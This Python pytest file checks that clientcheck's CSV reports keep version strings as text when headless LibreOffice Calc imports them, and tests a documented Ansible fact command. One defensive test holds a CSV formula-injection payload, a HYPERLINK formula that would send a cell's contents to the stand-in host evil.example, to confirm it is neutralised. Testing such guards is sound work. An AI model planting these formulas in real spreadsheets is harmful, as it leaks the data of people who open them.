"""The CSV report in a spreadsheet, with LibreOffice itself (headless): opened as it comes, Calc reads the
versions as numbers ("155.0" becomes 155, "12.11" a decimal); with the version columns imported as text, as
docs/spreadsheets.md tells, every version stays exactly as the report wrote it. The formula guard stays: a
cell that would be a formula arrives as text, never as a formula.

LibreOffice runs with a profile of its own in the test's folder (``-env:UserInstallation``): the user's
is never touched.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import subprocess
import zipfile
from pathlib import Path

import pytest

from clientcheck.model import Finding, Inventory, OSInfo, Report, RulesInfo
from clientcheck.render import csv as csv_render
from clientcheck.version import Version
from conftest import DESIGN_EXAMPLE, FIXTURES, NOW, require_tool

DEBIAN = str(FIXTURES / "linux" / "debian-12-desktop" / "root")
# What docs/spreadsheets.md gives: comma, double quote, UTF-8, from line 1, and these columns as text
# (2 is LibreOffice's "Text" column type): the report's installed, required and deadline (6, 7, 8); the
# inventory's version and package_version (4, 10).
REPORT_AS_TEXT = "CSV:44,34,76,1,6/2/7/2/8/2"
INVENTORY_AS_TEXT = "CSV:44,34,76,1,4/2/10/2"
AS_CSV = "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false"


def soffice(folder: Path, source: Path, target: str, infilter: str | None = None) -> Path:
    program = require_tool("soffice", "libreoffice-calc-nogui")
    out = folder / f"out-{len(list(folder.iterdir()))}"
    argv = [program, f"-env:UserInstallation={(folder / 'profile').as_uri()}", "--headless"]
    argv += [f"--infilter={infilter}"] if infilter else []
    argv += ["--convert-to", target, "--outdir", str(out), str(source)]
    subprocess.run(argv, capture_output=True, check=True, timeout=300)
    (converted,) = out.iterdir()
    return converted


def rows(path: Path) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(path.read_text(encoding="utf-8"), newline="")))


@pytest.fixture(scope="module")
def report_csv(run_cli_module, tmp_path_factory: pytest.TempPathFactory) -> Path:
    return run_cli_module(tmp_path_factory.mktemp("csv"))


@pytest.fixture(scope="module")
def run_cli_module():
    def make(folder: Path) -> Path:
        from clientcheck.cli import main

        target = folder / "report.csv"
        arguments = ["--root", DEBIAN, "--platform", "linux", "--rules", str(DESIGN_EXAMPLE), "--as-of", "2026-11-25"]
        status = main([*arguments, "--format", "csv", "-o", str(target)], env={}, now=NOW)
        assert status in (0, 1)
        return target

    return make


def test_opened_as_it_comes_calc_reads_versions_as_numbers(report_csv: Path, tmp_path: Path):
    # The problem the documented import solves: Google Chrome's required "155.0" comes back as 155.
    plain = rows(soffice(tmp_path, report_csv, AS_CSV))
    chrome = next(row for row in plain if row["product"] == "chrome")
    assert chrome["required"] == "155"


def test_imported_with_the_version_columns_as_text_every_version_stays_as_written(report_csv: Path, tmp_path: Path):
    ours = rows(report_csv)
    theirs = rows(soffice(tmp_path, report_csv, AS_CSV, REPORT_AS_TEXT))
    assert [(row["installed"], row["required"], row["deadline"]) for row in theirs] == [
        (row["installed"], row["required"], row["deadline"]) for row in ours
    ]
    assert ("131.0.6778.85", "155.0", "2026-12-02") in [(r["installed"], r["required"], r["deadline"]) for r in theirs]
    # And in a workbook: the cells are text, not numbers Calc made of them.
    book = soffice(tmp_path, report_csv, "xlsx", REPORT_AS_TEXT)
    with zipfile.ZipFile(book) as archive:
        strings = archive.read("xl/sharedStrings.xml").decode("utf-8")
    assert '<t xml:space="preserve">155.0</t>' in strings and '<t xml:space="preserve">12.8</t>' in strings


def test_the_inventory_too(tmp_path: Path):
    from clientcheck.cli import main

    target = tmp_path / "inventory.csv"
    assert (
        main(["inventory", "--root", DEBIAN, "--platform", "linux", "--format", "csv", "-o", str(target)], env={}) == 0
    )
    theirs = rows(soffice(tmp_path, target, AS_CSV, INVENTORY_AS_TEXT))
    assert [(row["version"], row["package_version"]) for row in theirs] == [
        (row["version"], row["package_version"]) for row in rows(target)
    ]


def test_a_formula_in_the_data_stays_text(tmp_path: Path):
    # A name a crafted desktop file could give: guarded with ' (OWASP's advice), kept as it is by the import.
    evil = '=HYPERLINK("https://evil.example/?"&A1,"Update now")'
    finding = Finding("x", "x", evil, "owed", "required", Version("1.0"), Version("2.0"), "-2+3")
    rules = RulesInfo("bundled", 1, "0" * 64, "Test", dt.date(2026, 11, 1), dt.date(2027, 1, 1))
    report = Report(NOW, Inventory(OSInfo("linux", "debian", "Debian", Version("12"))), (finding,), rules)
    source = tmp_path / "evil.csv"
    source.write_text(csv_render.render_report(report), encoding="utf-8", newline="")
    book = soffice(tmp_path, source, "xlsx", REPORT_AS_TEXT)
    with zipfile.ZipFile(book) as archive:
        sheet = archive.read("xl/worksheets/sheet1.xml").decode("utf-8")
        strings = archive.read("xl/sharedStrings.xml").decode("utf-8")
    assert "<f>" not in sheet  # no formula anywhere
    assert "&apos;=HYPERLINK" in strings or "'=HYPERLINK" in strings  # the guard shows, as the README says
    assert "'-2+3" in strings or "&apos;-2+3" in strings


# --- the Ansible fact on a fresh machine ------------------------------------------------------------------

DOCS = Path(__file__).resolve().parent.parent / "docs" / "spreadsheets-and-ansible.md"


def test_the_documented_ansible_command_works_where_the_folder_does_not_exist(tmp_path: Path):
    import json
    import os
    import shutil
    import sys

    line = next(line for line in DOCS.read_text().splitlines() if line.startswith("install -d "))
    root = tmp_path / "machine"
    command = line.replace("/etc/ansible", str(root / "etc/ansible"))
    script = shutil.which("clientcheck", path=os.path.dirname(sys.executable))
    assert script is not None
    env = {**os.environ, "PATH": f"{os.path.dirname(script)}:{os.environ['PATH']}"}
    # -o alone does not make the folder (and must not start to): exit 5, nothing written.
    alone = command.split(" && ", 1)[1] + f" --root {DEBIAN} --platform linux"
    failed = subprocess.run(["sh", "-c", alone], env=env, capture_output=True, text=True, check=False)
    assert failed.returncode == 5
    assert "does not exist" in failed.stderr
    assert not (root / "etc").exists()
    # The documented line does.
    done = subprocess.run(["sh", "-c", f"{command} --root {DEBIAN} --platform linux"], env=env, check=False)
    assert done.returncode in (0, 1)
    fact = json.loads((root / "etc/ansible/facts.d/clientcheck.fact").read_text())
    assert fact["status"] == "owed"
    assert (root / "etc/ansible/facts.d").stat().st_mode & 0o777 == 0o755
